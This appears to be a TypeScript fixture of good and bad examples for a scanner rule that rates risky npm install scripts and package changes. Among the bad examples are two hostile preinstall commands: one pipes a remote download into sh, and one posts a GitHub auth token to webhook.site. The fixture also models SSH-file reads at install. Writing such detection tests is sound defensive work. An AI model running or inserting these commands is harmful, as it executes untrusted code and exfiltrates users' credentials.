import type { ReleaseRuleExamples } from '../rule-examples.ts';

const setup = { name: 'postinstall', command: 'node setup.js', runsAtInstall: true } as const;
const setupFile = { path: 'setup.js' } as const;

export const examples: ReleaseRuleExamples = {
  bad: [
    {
      why: 'a script that is known to do nothing but print',
      severity: 'medium',
      old: {},
      new: { scripts: [setup], files: [{ ...setupFile, plain: true }] },
    },
    {
      why: 'the same, which asks before, beside a new dependency that it does not load',
      severity: 'medium',
      old: {},
      new: {
        scripts: [setup],
        files: [{ ...setupFile, plain: true }],
        can: [
          { kind: 'environment.read', attributes: { name: 'CI' }, reach: 'install', ...setupFile },
          { kind: 'anti-analysis', attributes: { gate: 'ci' }, reach: 'install', ...setupFile },
        ],
        dependencies: [{ name: 'x', spec: '1.0.0', source: 'registry', kind: 'dependencies' }],
      },
    },
    {
      why: 'a script that only prints, for people of one place',
      severity: 'high',
      old: {},
      new: {
        scripts: [setup],
        files: [{ ...setupFile, plain: true }],
        can: [
          { kind: 'environment.read', attributes: { name: 'TZ' }, reach: 'install', ...setupFile },
        ],
      },
    },
    {
      why: 'a command that is known to have npm install what a folder needs',
      severity: 'medium',
      old: {},
      new: {
        scripts: [
          {
            name: 'postinstall',
            command: 'cd web && npm install',
            runsAtInstall: true,
            known: { does: 'installs', folders: ['web'] },
          },
        ],
        can: [
          {
            kind: 'process.spawn',
            attributes: { command: 'npm install' },
            reach: 'install',
            path: 'package.json',
          },
        ],
      },
    },
    {
      why: 'the same, beside a script of that folder',
      severity: 'high',
      old: {},
      new: {
        scripts: [
          {
            name: 'postinstall',
            command: 'cd web && npm install',
            runsAtInstall: true,
            known: { does: 'installs', folders: ['web'] },
          },
        ],
        files: [{ path: 'web/package.json', language: 'json' }, { path: 'web/more.js' }],
        can: [
          {
            kind: 'install.hook',
            attributes: { script: 'postinstall in web', command: 'node more.js', folder: 'web' },
            reach: 'install',
            path: 'web/package.json',
          },
        ],
      },
    },
    {
      why: 'patches that are known to add nothing, beside one that could not be read',
      severity: 'high',
      old: {},
      new: {
        scripts: [
          {
            name: 'postinstall',
            command: 'patch-package',
            runsAtInstall: true,
            known: { does: 'lays-patches' },
          },
        ],
        files: [{ path: 'patches/sdk+1.0.0.patch', language: 'data' }],
        unread: [{ path: 'patches/zod+4.0.0.patch', reason: 'too-deep' }],
      },
    },
    {
      why: 'patches that are known to add nothing',
      severity: 'medium',
      old: {},
      new: {
        scripts: [
          {
            name: 'postinstall',
            command: 'patch-package',
            runsAtInstall: true,
            known: { does: 'lays-patches' },
          },
        ],
        files: [{ path: 'patches/sdk+1.0.0.patch', language: 'data' }],
      },
    },
    {
      why: 'a script in which nothing was seen: that says little',
      severity: 'high',
      old: {},
      new: { scripts: [setup], files: [setupFile] },
    },
    {
      why: 'a script that only prints, and another one that reads a file',
      severity: 'high',
      old: {},
      new: {
        scripts: [setup],
        files: [{ ...setupFile, plain: true }, { path: 'more.js' }],
        can: [
          { kind: 'file.read', attributes: { class: 'other' }, reach: 'install', path: 'more.js' },
        ],
      },
    },
    {
      why: 'the command itself fetches and runs',
      severity: 'critical',
      old: {},
      new: {
        scripts: [
          {
            name: 'preinstall',
            command: 'curl -s http://198.51.100.7/x | sh',
            runsAtInstall: true,
          },
        ],
      },
    },
    {
      why: 'only package.json changed',
      severity: 'critical',
      old: {},
      new: {
        scripts: [
          {
            name: 'preinstall',
            command: 'curl -d "$(gh auth token)" https://webhook.site/x',
            runsAtInstall: true,
          },
        ],
      },
    },
    {
      why: 'it evaluates what it fetched',
      severity: 'critical',
      old: {},
      new: {
        scripts: [setup],
        files: [setupFile],
        can: [
          {
            kind: 'code.evaluate',
            attributes: { via: 'eval', form: 'dynamic' },
            reach: 'install',
            path: 'setup.js',
          },
        ],
      },
    },
    {
      why: 'it talks to a host that nobody knows',
      severity: 'critical',
      old: {},
      new: {
        scripts: [setup],
        files: [setupFile],
        can: [
          {
            kind: 'network.connect',
            attributes: { destination: 'cdn.collect.invalid', scheme: 'https', via: 'https' },
            reach: 'install',
            path: 'setup.js',
          },
        ],
      },
    },
    {
      why: 'it fetches a binary from the home of the package',
      severity: 'high',
      old: {},
      new: {
        scripts: [setup],
        files: [setupFile],
        can: [
          {
            kind: 'network.connect',
            attributes: { destination: 'github.com', scheme: 'https', via: 'https' },
            reach: 'install',
            path: 'setup.js',
          },
        ],
      },
    },
    {
      why: 'the file that it runs was left out',
      severity: 'high',
      old: {},
      new: { scripts: [{ name: 'preinstall', command: 'node setup.mjs', runsAtInstall: true }] },
    },
    {
      why: 'a binding.gyp in a package without native sources',
      severity: 'high',
      old: {},
      new: {
        scripts: [{ name: 'install', command: 'node-gyp rebuild', runsAtInstall: true }],
        files: [{ path: 'binding.gyp', language: 'data' }],
      },
    },
    {
      why: 'it lays patches that it brings over other packages',
      severity: 'high',
      old: {},
      new: {
        scripts: [{ name: 'postinstall', command: 'patch-package || true', runsAtInstall: true }],
        files: [{ path: 'patches/mail-core+1.0.0.patch', language: 'data' }],
      },
    },
    {
      why: 'a first release that harvests at installation',
      severity: 'critical',
      new: {
        scripts: [setup],
        files: [setupFile],
        can: [
          { kind: 'file.read', attributes: { class: 'ssh' }, reach: 'install', path: 'setup.js' },
        ],
      },
    },
    {
      why: 'a native addon is built',
      severity: 'medium',
      old: {},
      new: {
        scripts: [{ name: 'install', command: 'node-gyp rebuild', runsAtInstall: true }],
        files: [
          { path: 'binding.gyp', language: 'data' },
          { path: 'src/addon.cc', language: 'data' },
        ],
      },
    },
  ],
  good: [
    {
      why: 'a script that only a person runs',
      old: {},
      new: { scripts: [{ name: 'test', command: 'vitest', runsAtInstall: false }] },
    },
    {
      why: 'the same script as before',
      old: { scripts: [setup], files: [setupFile] },
      new: { scripts: [setup], files: [setupFile] },
    },
    {
      why: 'for those who work on the package',
      atMost: 'low',
      old: {},
      new: {
        scripts: [{ name: 'postinstall', command: 'husky install || true', runsAtInstall: true }],
      },
    },
    {
      why: 'patches that were not published',
      atMost: 'low',
      old: {},
      new: {
        scripts: [{ name: 'postinstall', command: 'patch-package', runsAtInstall: true }],
      },
    },
    { why: 'a first release with a quiet script', new: { scripts: [setup], files: [setupFile] } },
  ],
};
